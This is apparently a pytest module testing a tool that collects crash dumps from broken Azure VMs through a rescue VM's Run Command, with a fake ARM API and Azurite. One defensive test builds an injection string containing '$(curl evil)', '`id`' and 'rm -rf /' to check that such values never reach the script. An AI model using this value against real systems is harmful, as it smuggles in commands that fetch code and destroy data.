"""`collect` against the loopback ARM double (real azure-mgmt-compute client, managed Run Command
routes from tests/support/arm_compute.py) and Azurite.

Two kinds of remote side: `LocalScript` runs the real rendered bash script here against a real NTFS
disk image (the whole path, as on a Linux rescue VM), `Scripted` plays back an outcome (states, exit
code, result line) for the cases a real script cannot be made to produce on demand. Several tests run
`python -m scripts collect` as a subprocess, as a pipeline would.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import struct
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

from scripts import remote
from scripts.azure.identity import vm_key
from scripts.base.errors import ExitCode
from scripts.collection.contract import CollectError, CollectRequest
from scripts.collection.rescue_vm import RescueVmCollector
from scripts.config.stackoutputs import RepairOutputs
from scripts.devkit.arm_compute import (
    RESCUE_RG, RESCUE_VM, SUB, LocalScript, Scripted, install_rescue_vm, install_run_commands, result_line, vm_id,
)
from scripts.devkit.dumpbuilder import build_bitmap_dump, build_triage_dump
from tests.support.rescue import (  # noqa: F401 - fixtures
    azurite_https, broken_disk, dumpless_disk, imds, non_windows_disk, sha256_file, tls,
)

REPO = Path(__file__).resolve().parents[2]
SOURCE_VM_ID = f"/subscriptions/{SUB}/resourceGroups/prod-web/providers/Microsoft.Compute/virtualMachines/web-01"


def outputs_for(blob_endpoint: str, container: str, rescue_os: str = "linux", **changes) -> RepairOutputs:
    values = dict(
        subscription_id=SUB, resource_group_name=RESCUE_RG, rescue_vm_id=vm_id(), rescue_vm_name=RESCUE_VM,
        rescue_vm_principal_id="5b0e4c3a-0000-0000-0000-0000000000aa", rescue_os=rescue_os,
        disk_copy_id=f"/subscriptions/{SUB}/resourceGroups/{RESCUE_RG}/providers/Microsoft.Compute/disks/web-01-copy",
        disk_copy_lun=0,
        snapshot_id=f"/subscriptions/{SUB}/resourceGroups/{RESCUE_RG}/providers/Microsoft.Compute/snapshots/web-01-snap",
        source_vm_id=SOURCE_VM_ID,
        source_os_disk_id=f"/subscriptions/{SUB}/resourceGroups/prod-web/providers/Microsoft.Compute/disks/web-01_OsDisk_1",
        evidence_account_name="devstoreaccount1", evidence_blob_endpoint=blob_endpoint, evidence_container=container)
    values.update(changes)
    return RepairOutputs(**values)


def collect_dump(outputs: RepairOutputs, config, **options):
    """The rescue-vm collector on one request: the in-process call of these tests."""
    return RescueVmCollector().collect(CollectRequest(outputs, config, **options))


def write_outputs_file(path: Path, outputs: RepairOutputs) -> Path:
    path.write_text(json.dumps({"repair": dataclasses.asdict(outputs)}))
    return path


def run_cli(*args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    full_env = {**os.environ, **(env or {}), "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "scripts", "collect", *args], cwd=cwd, env=full_env,
                          capture_output=True, text=True, timeout=timeout)


def appender(service_client):
    """Plays the Run Command handler's part of streaming stdout/stderr into append blobs."""
    def sink(uri: str, text: str) -> None:
        path = urllib.parse.unquote(urllib.parse.urlsplit(uri).path)
        container, name = path.split("/", 3)[2:4]
        blob = service_client.get_blob_client(container, name)
        blob.create_append_blob()
        if text:
            blob.append_block(text.encode())
    return sink


@pytest.fixture
def store(azurite, monkeypatch):
    """Plain-HTTP Azurite as the evidence account; collect reaches it through the test-only connection
    string (a key, refused for anything but loopback)."""
    monkeypatch.setenv("CRASHCART_STORAGE_CONNECTION_STRING", azurite.connection_string)
    service = azurite.service_client()
    name = f"ev{os.urandom(5).hex()}"
    service.create_container(name)
    return service, service.get_container_client(name)


def fake_upload(container, prefix: str, files: dict[str, bytes], *, lie_about_size: bool = False) -> list[dict]:
    """What the remote script leaves behind for each dump: the blob, its manifest, its result entry."""
    entries = []
    for suffix, data in files.items():
        name = f"{prefix}/{suffix}"
        container.upload_blob(name, data, overwrite=True)
        digest = hashlib.sha256(data).hexdigest()
        code = struct.unpack_from("<I", data, 0x38)[0]
        manifest = {"schema": "crashcart.manifest/1", "blob": name, "kind": "memory", "size": len(data) + (4096 if lie_about_size else 0),
                    "sha256": digest, "header": {"signature": data[:8].decode(errors="replace"), "bugcheck_code": f"0x{code:08X}"}}
        container.upload_blob(f"{name}.manifest.json", json.dumps(manifest), overwrite=True)
        entries.append({"kind": "minidump" if "Minidump" in suffix else "memory", "blob": name, "size": len(data),
                        "sha256": digest, "source_path": f"%SystemRoot%\\{suffix}", "uploaded": True})
    return entries


# ---- the whole path: real script, real disk image, HTTPS Azurite with OAuth, CLI as a subprocess ----------
@pytest.mark.slow
@pytest.mark.root
def test_cli_collects_from_a_real_disk_through_the_real_script(arm, broken_disk, azurite_https, imds, tls, tmp_path):
    from tests.support.storagefakes import service_client

    service = service_client(azurite_https, tls)
    container = service.create_container("evidence")
    install_rescue_vm(arm, agent=["Not Ready", "Ready"])
    commands = install_run_commands(
        arm, LocalScript(env={"Device": str(broken_disk.image), "ImdsEndpoint": imds.url,
                              "CURL_CA_BUNDLE": str(tls.cert), "BlockSize": "65536", "Parallel": "3"}),
        output_sink=appender(service), error_sink=appender(service), output_in_instance_view=False)
    outputs = outputs_for(azurite_https.blob_endpoint, "evidence")
    outputs_file = write_outputs_file(tmp_path / "outputs.json", outputs)
    config = tmp_path / "repair.toml"
    config.write_text((REPO / "repair.example.toml").read_text().replace("collect_timeout_minutes = 120",
                                                                         "collect_timeout_minutes = 30"))
    proc = run_cli("--outputs-file", str(outputs_file), "--config", str(config), "--poll-seconds", "0.05",
                   cwd=tmp_path, env={"CRASHCART_STORAGE_CONNECTION_STRING": azurite_https.connection_string,
                                      "REQUESTS_CA_BUNDLE": str(tls.cert)})
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert result["status"] == "collected"
    prefix = result["run"]
    # the VM's key (name + hash of its resource ID), not its bare name: another web-01 gets another prefix
    assert prefix.startswith(vm_key(SOURCE_VM_ID) + "/") and len(prefix.split("/")[1]) == len("20250101T000000Z")

    # every dump verified: size, header, and SHA-256 recomputed from the blob
    blobs = {b["name"].split("/", 2)[2]: b for b in result["blobs"]}
    assert set(blobs) == set(broken_disk.dumps)
    for suffix, local in broken_disk.dumps.items():
        assert blobs[suffix]["ok"] and blobs[suffix]["sha256_checked"], blobs[suffix]["problems"]
        assert blobs[suffix]["sha256"] == sha256_file(local)
        assert hashlib.sha256(container.download_blob(f"{prefix}/{suffix}").readall()).hexdigest() == sha256_file(local)
    assert blobs["MEMORY.DMP"]["header"]["bugcheck_code"] == "0x7e"

    # the Run Command as ARM received it: the script is the template's code, values are parameters
    (body,) = commands.created
    props = body["properties"]
    assert props["source"]["script"] == remote.render("linux")
    params = {p["name"]: p["value"] for p in props["parameters"]}
    assert params == {"BlobEndpoint": azurite_https.blob_endpoint, "Container": "evidence", "Prefix": prefix,
                      "DiskLun": "0", "DiskCopyId": outputs.disk_copy_id, "SourceDiskId": outputs.source_os_disk_id,
                      "SnapshotId": outputs.snapshot_id}
    assert props["asyncExecution"] is True and props["timeoutInSeconds"] == 30 * 60
    assert props["outputBlobUri"].endswith(f"/evidence/{prefix}/runcommand/output.log")
    assert props["errorBlobUri"].endswith(f"/evidence/{prefix}/runcommand/error.log")
    assert props["outputBlobManagedIdentity"] == {} and props["errorBlobManagedIdentity"] == {}
    assert body["location"] == "westeurope"
    # it was polled with $expand=instanceView, and deleted afterwards
    assert any(r.query.get("$expand") == "instanceView" for r in arm.calls("GET", "/runCommands/"))
    assert commands.deleted == [result["run_command"]["name"]]
    assert result["run_command"]["deleted"] is True and result["run_command"]["state"] == "Succeeded"

    # the report, locally and beside the dumps
    report = json.loads(container.download_blob(f"{prefix}/report.json").readall())
    assert report["bugcheck"]["code"] == "0x7e" and report["bugcheck"]["name"] == "SYSTEM_THREAD_EXCEPTION_NOT_HANDLED"
    assert {d["blob"] for d in report["dumps"]} == {f"{prefix}/{s}" for s in broken_disk.dumps}
    assert (tmp_path / "crashcart-out" / prefix / "report.md").read_text().count("| yes |") == len(broken_disk.dumps)
    assert "pagefile.sys" in " ".join(report["notes"])
    assert "collect on crashcart-rescue" in proc.stderr  # progress lines in CI mode


@pytest.mark.slow
@pytest.mark.root
@pytest.mark.parametrize("disk, code, status", [
    ("dumpless_disk", ExitCode.NO_DUMP, "no_dump"),
    ("non_windows_disk", ExitCode.DISK_NOT_FOUND, "disk_not_found"),
])
def test_cli_reports_what_the_real_script_found(request, arm, azurite_https, imds, tls, tmp_path, disk, code, status):
    from tests.support.storagefakes import service_client

    image = request.getfixturevalue(disk).image
    service = service_client(azurite_https, tls)
    name = f"ev{os.urandom(4).hex()}"
    service.create_container(name)
    install_rescue_vm(arm)
    install_run_commands(arm, LocalScript(env={"Device": str(image), "ImdsEndpoint": imds.url,
                                               "CURL_CA_BUNDLE": str(tls.cert)}))
    outputs_file = write_outputs_file(tmp_path / "o.json", outputs_for(azurite_https.blob_endpoint, name))
    proc = run_cli("--outputs-file", str(outputs_file), "--poll-seconds", "0.05", cwd=tmp_path,
                   env={"CRASHCART_STORAGE_CONNECTION_STRING": azurite_https.connection_string,
                        "REQUESTS_CA_BUNDLE": str(tls.cert)})
    assert proc.returncode == code, proc.stderr
    result = json.loads(proc.stdout)
    assert result["status"] == status and result["blobs"] == []
    assert "error: " in proc.stderr and "next: " in proc.stderr
    if status == "no_dump":
        assert "prepare-dump" in result["hint"]
        assert any("temporary disk" in n for n in result["notes"])
    else:
        assert "LUN 0" in result["hint"]


# ---- outcomes played back by the double ----------------------------------------------------------------
def test_collect_success_in_process(arm, store, tmp_path):
    service, container = store
    dump = build_bitmap_dump(tmp_path / "m.dmp").path.read_bytes()
    mini = build_triage_dump(tmp_path / "t.dmp").path.read_bytes()

    def effect(params):
        files = fake_upload(container, params["Prefix"], {"MEMORY.DMP": dump, "Minidump/a.dmp": mini})
        return {"output": "CRASHCART_PROGRESS {\"blob\": \"x\", \"done\": 1, \"total\": 2}\n"
                          + result_line("collected", files=files, notes=["a note"])}

    vm = install_rescue_vm(arm, agent=["Not Ready", "Not Ready", "Ready"])
    commands = install_run_commands(arm, Scripted(["Pending", "Running", "Running", "Succeeded"], effect=effect),
                                    output_sink=appender(service))
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    result = collect_dump(outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01,
                          out_dir=tmp_path / "out", sas_days=7)
    assert result.status == "collected" and result.exit_code == 0
    assert [b.ok for b in result.blobs] == [True, True]
    assert result.notes[0] == "a note"
    assert "no SAS links" in result.notes[1]  # a SAS needs Azure AD; the emulator key cannot sign one
    assert vm.instance_view_reads == 3
    assert commands.deleted == [result.run_command["name"]]
    data = result.to_dict()
    assert data["blobs"][0]["header"]["bugcheck_code"] == "0x7e"
    assert Path(result.report_files["json"]).exists()
    assert result.report_blobs["markdown"].endswith(f"{result.run}/report.md")
    assert result.sas == {}
    assert "no SAS links" in Path(result.report_files["markdown"]).read_text()


@pytest.mark.parametrize("outcome, code, message", [
    (Scripted(["Running", "Failed"], exit_code=12, output=result_line(
        "upload_failed", message="at least one dump could not be uploaded (500 InternalError)")),
     ExitCode.COLLECT_FAILED, "500 InternalError"),
    (Scripted(["Running", "TimedOut"]), ExitCode.TIMED_OUT, "did not finish within"),
    (Scripted(["Pending", "Failed"], exit_code=127, error="bash: line 7: hivexget: command not found\n"),
     ExitCode.COLLECT_FAILED, "hivexget: command not found"),
    (Scripted(["Running", "Failed"], exit_code=11, output=result_line("disk_not_found", message="no NTFS volume")),
     ExitCode.DISK_NOT_FOUND, "no NTFS volume"),
], ids=["upload-failed", "timed-out", "no-result", "disk-not-found"])
def test_collect_failures(arm, store, tmp_path, outcome, code, message):
    service, container = store
    install_rescue_vm(arm)
    commands = install_run_commands(arm, outcome)
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path)
    err = caught.value
    assert err.exit_code == code
    assert message in err.message
    assert err.hint
    assert err.result is not None and err.result.exit_code == int(code)
    assert commands.deleted == [err.result.run_command["name"]]  # deleted whatever the outcome
    assert Path(err.result.report_files["json"]).exists()


def test_collect_gives_up_when_the_command_never_reports(arm, store, tmp_path):
    service, container = store
    install_rescue_vm(arm)
    commands = install_run_commands(arm, Scripted(["Pending", "Running"]))
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs, None, timeout_minutes=1 / 60, progress=False, poll_seconds=0.05, out_dir=tmp_path)
    assert caught.value.exit_code == ExitCode.TIMED_OUT
    assert "still Running" in caught.value.message
    assert commands.deleted  # deleting it also stops the script


def test_cli_agent_never_ready(arm, store, tmp_path):
    service, container = store
    install_rescue_vm(arm, agent=["Not Ready"])
    commands = install_run_commands(arm, Scripted())
    outputs_file = write_outputs_file(tmp_path / "o.json", outputs_for(container.url.rsplit("/", 1)[0],
                                                                       container.container_name))
    proc = run_cli("--outputs-file", str(outputs_file), "--agent-wait-minutes", "0.005", "--poll-seconds", "0.05",
                   cwd=tmp_path)
    assert proc.returncode == ExitCode.AGENT_NOT_READY, proc.stderr
    assert "did not report Ready" in proc.stderr and "Not Ready" in proc.stderr
    assert json.loads(proc.stdout)["status"] == "agent_not_ready"
    assert commands.created == []  # nothing was started on a VM whose agent is not up


def test_cli_verify_failed(arm, store, tmp_path):
    service, container = store
    good = build_bitmap_dump(tmp_path / "m.dmp").path.read_bytes()

    def effect(params):
        files = fake_upload(container, params["Prefix"], {"MEMORY.DMP": good[: len(good) // 2]}, lie_about_size=True)
        files[0]["size"] = len(good)
        return {"output": result_line("collected", files=files)}

    install_rescue_vm(arm)
    install_run_commands(arm, Scripted(["Running", "Succeeded"], effect=effect))
    outputs_file = write_outputs_file(tmp_path / "o.json", outputs_for(container.url.rsplit("/", 1)[0],
                                                                       container.container_name))
    proc = run_cli("--outputs-file", str(outputs_file), "--poll-seconds", "0.05", cwd=tmp_path)
    assert proc.returncode == ExitCode.VERIFY_FAILED, proc.stderr
    result = json.loads(proc.stdout)
    (blob,) = result["blobs"]
    assert not blob["ok"]
    assert any("manifest says" in p for p in blob["problems"])
    assert any("truncated" in p for p in blob["problems"])
    assert "verification failed" in proc.stderr


def test_run_command_refused_by_arm(arm, store, tmp_path):
    service, container = store
    install_rescue_vm(arm)
    install_run_commands(arm, Scripted())
    arm.forbidden.add(vm_id() + "/runCommands")
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path)
    assert caught.value.exit_code == ExitCode.AZURE_AUTH
    assert "AuthorizationFailed" in caught.value.message
    assert caught.value.result.status == "error" and caught.value.result.blobs == []


def test_hostile_output_values_reach_the_vm_only_as_parameters(arm, store, tmp_path):
    service, container = store
    hostile = "$(curl evil) `id` ; 'x' \"y\" \n rm -rf /"
    install_rescue_vm(arm)
    commands = install_run_commands(arm, Scripted(["Succeeded"], output=result_line("no_dump")))
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name, rescue_os="windows",
                          disk_copy_id=hostile, source_os_disk_id=hostile, snapshot_id=hostile)
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path)
    assert caught.value.exit_code == ExitCode.NO_DUMP
    (body,) = commands.created
    script = body["properties"]["source"]["script"]
    assert hostile not in script and script == remote.render("windows")
    params = {p["name"]: p["value"] for p in body["properties"]["parameters"]}
    assert params["DiskCopyId"] == params["SourceDiskId"] == params["SnapshotId"] == hostile


def test_sas_days_out_of_range_is_refused_before_anything_runs(arm, store, tmp_path):
    service, container = store
    install_rescue_vm(arm)
    commands = install_run_commands(arm, Scripted())
    outputs_file = write_outputs_file(tmp_path / "o.json", outputs_for(container.url.rsplit("/", 1)[0],
                                                                       container.container_name))
    proc = run_cli("--outputs-file", str(outputs_file), "--sas", "--sas-days", "30", cwd=tmp_path)
    assert proc.returncode == ExitCode.USAGE
    assert "1 to 7 days" in proc.stderr
    assert commands.created == []


def _collect_one_dump(arm, store, tmp_path):
    """A rescue VM whose script stores one MEMORY.DMP, collected in process."""
    service, container = store
    dump = build_bitmap_dump(tmp_path / "m.dmp").path.read_bytes()

    def effect(params):
        return {"output": result_line("collected", files=fake_upload(container, params["Prefix"], {"MEMORY.DMP": dump}))}

    install_rescue_vm(arm)
    install_run_commands(arm, Scripted(["Running", "Succeeded"], effect=effect), output_sink=appender(service))
    return collect_dump(outputs_for(container.url.rsplit("/", 1)[0], container.container_name), None,
                        timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path / "out")


def test_collect_keeps_the_broken_vms_boot_diagnostics_beside_the_dump(arm, store, azurite, tmp_path):
    """The article starts from the screenshot: every run stores it and the serial log with the evidence."""
    from scripts.devkit.arm_vm import add_broken_vm
    from scripts.devkit.arm_vmops import VmOps

    broken = add_broken_vm(arm)
    assert broken.vm_id == SOURCE_VM_ID
    VmOps(arm, azurite).add(broken.vm_id, power="running")
    result = _collect_one_dump(arm, store, tmp_path)
    container = store[1]
    assert result.symptoms["status"] == "captured", result.symptoms
    names = {b.name for b in container.list_blobs(name_starts_with=f"{result.run}/bootdiag/")}
    assert names == {f"{result.run}/bootdiag/screenshot.bmp", f"{result.run}/bootdiag/serial.log"}
    assert container.download_blob(f"{result.run}/bootdiag/screenshot.bmp").readall()[:2] == b"BM"
    assert "## Symptoms (boot diagnostics)" in Path(result.report_files["markdown"]).read_text()
    assert "sig=" not in json.dumps(result.to_dict())  # the boot diagnostics SAS never reaches the result


def test_collect_goes_on_when_boot_diagnostics_cannot_be_read(arm, store, tmp_path):
    result = _collect_one_dump(arm, store, tmp_path)
    assert result.exit_code == 0
    assert result.symptoms["status"] == "unavailable" and result.symptoms["message"]


# ---- a VM is its resource ID (#13) ----------------------------------------------------------------------------
def test_same_named_vms_get_their_own_prefix_and_a_rerun_with_the_same_stamp_is_refused(arm, store, tmp_path):
    """Two VMs named web-01 in two resource groups, same run stamp: the remote script is told two different
    prefixes (they used to share web-01/<stamp>/). The same VM again with that stamp is refused before any
    run command starts (exit 12), its first dump untouched."""
    import datetime as dt

    service, container = store
    dump = build_bitmap_dump(tmp_path / "m.dmp").path.read_bytes()
    prefixes: list[str] = []

    def effect(params):
        prefixes.append(params["Prefix"])
        return {"output": result_line("collected", files=fake_upload(container, params["Prefix"], {"MEMORY.DMP": dump}))}

    install_rescue_vm(arm)
    commands = install_run_commands(arm, Scripted(["Running", "Succeeded"], effect=effect), output_sink=appender(service))
    now = dt.datetime(2025, 5, 17, 3, 12, 45, tzinfo=dt.timezone.utc)
    endpoint = container.url.rsplit("/", 1)[0]
    other_vm = SOURCE_VM_ID.replace("/prod-web/", "/prod-web-2/")
    options = dict(timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path / "out", now=now)
    first = collect_dump(outputs_for(endpoint, container.container_name), None, **options)
    second = collect_dump(outputs_for(endpoint, container.container_name, source_vm_id=other_vm), None, **options)
    assert prefixes == [first.run, second.run] == [f"{vm_key(SOURCE_VM_ID)}/20250517T031245Z",
                                                   f"{vm_key(other_vm)}/20250517T031245Z"]
    assert json.loads(container.download_blob(f"{second.run}/report.json").readall())["source"]["vm_id"] == other_vm
    stored = hashlib.sha256(container.download_blob(f"{first.run}/MEMORY.DMP").readall()).hexdigest()

    with pytest.raises(CollectError) as caught:
        collect_dump(outputs_for(endpoint, container.container_name), None, **options)
    err = caught.value
    assert err.exit_code == ExitCode.COLLECT_FAILED and err.result.status == "upload_failed"
    assert f"{first.run}/report.json" in err.message
    assert len(commands.created) == 2  # nothing ran on the rescue VM
    assert hashlib.sha256(container.download_blob(f"{first.run}/MEMORY.DMP").readall()).hexdigest() == stored
    assert json.loads((tmp_path / "out" / first.run / "report.json").read_text())["status"] == "collected"


# ---- what the handler reports (#12: timing) -------------------------------------------------------------------
def test_a_linux_run_command_timeout_is_exit_13_not_12(arm, store, tmp_path):
    """The Linux handler reports its timeout as Failed, exitCode -1 ("command terminated with exit status=-1")
    after timeoutInSeconds: that is the collection timing out (13), not a failed script (12)."""
    service, container = store
    install_rescue_vm(arm, os_type="Linux")
    commands = install_run_commands(arm, Scripted(["Running", "TimedOut"]))
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path)
    assert commands.served[-1]["executionState"] == "Failed" and commands.served[-1]["exitCode"] == -1
    err = caught.value
    assert err.exit_code == ExitCode.TIMED_OUT and err.result.status == "timed_out"
    assert "did not finish within 5 min" in err.message and "exit status=-1" in err.message
    assert err.result.run_command["reported_state"] == "Failed" and err.result.run_command["exit_code"] == -1


def test_collect_waits_out_the_vm_identitys_role_propagation_and_keeps_the_logs(arm, store, tmp_path):
    """The repair stack assigned the VM identity's role just now: the handler cannot create the log blobs yet
    (403 AuthorizationPermissionMismatch) and fails the command before the script runs. collect creates it
    again until the role is in effect; the script then runs once and its logs reach output.log."""
    service, container = store
    dump = build_bitmap_dump(tmp_path / "m.dmp").path.read_bytes()
    runs: list[str] = []

    def effect(params):
        runs.append(params["Prefix"])
        files = fake_upload(container, params["Prefix"], {"MEMORY.DMP": dump})
        return {"output": "collecting\n" + result_line("collected", files=files)}

    install_rescue_vm(arm, os_type="Linux", evidence_container=container.url, role_delay_s=1.0)
    commands = install_run_commands(arm, Scripted(["Running", "Succeeded"], effect=effect),
                                    output_sink=appender(service), error_sink=appender(service))
    result = collect_dump(outputs_for(container.url.rsplit("/", 1)[0], container.container_name), None,
                          timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path / "out")
    assert result.exit_code == 0 and result.status == "collected"
    assert commands.refused and all(u.endswith("/runcommand/output.log") for u in commands.refused)
    assert runs == [result.run]  # the script ran once, after the role took effect
    assert result.run_command["log_blob_refusals"] == len(commands.refused)
    assert commands.deleted == [result.run_command["name"]] * len(commands.created)
    log_text = container.download_blob(f"{result.run}/runcommand/output.log").readall().decode()
    assert log_text.startswith("collecting\n") and "CRASHCART_RESULT" in log_text


def test_collect_says_exit_3_when_the_vm_identity_never_may_write_the_logs(arm, store, tmp_path):
    from scripts.remote import UploadSettings

    service, container = store
    script = Scripted(["Running", "Succeeded"])
    install_rescue_vm(arm, os_type="Linux", evidence_container=container.url + "-elsewhere")
    commands = install_run_commands(arm, script)
    outputs = outputs_for(container.url.rsplit("/", 1)[0], container.container_name)
    with pytest.raises(CollectError) as caught:
        RescueVmCollector(UploadSettings(auth_wait_seconds=1)).collect(CollectRequest(
            outputs, None, timeout_minutes=5, progress=False, poll_seconds=0.01, out_dir=tmp_path))
    err = caught.value
    assert err.exit_code == ExitCode.AZURE_AUTH and err.result.status == "error"
    assert "could not create the log blob(s)" in err.message and "AuthorizationPermissionMismatch" in err.message
    assert "role assignment" in err.hint
    assert not script.started and commands.refused
    assert Path(err.result.report_files["json"]).exists()


def test_a_failure_without_stderr_says_what_the_handler_said(arm, store, tmp_path):
    """No result line and nothing on stderr: the handler's executionMessage is all there is to go on."""
    service, container = store
    install_rescue_vm(arm, os_type="Linux")
    install_run_commands(arm, Scripted(["Running", "Failed"], exit_code=127))
    with pytest.raises(CollectError) as caught:
        collect_dump(outputs_for(container.url.rsplit("/", 1)[0], container.container_name), None, timeout_minutes=5,
                     progress=False, poll_seconds=0.01, out_dir=tmp_path)
    assert caught.value.exit_code == ExitCode.COLLECT_FAILED
    assert caught.value.message.endswith(
        "without a result: Execution failed: failed to execute command: command terminated with exit status=127")
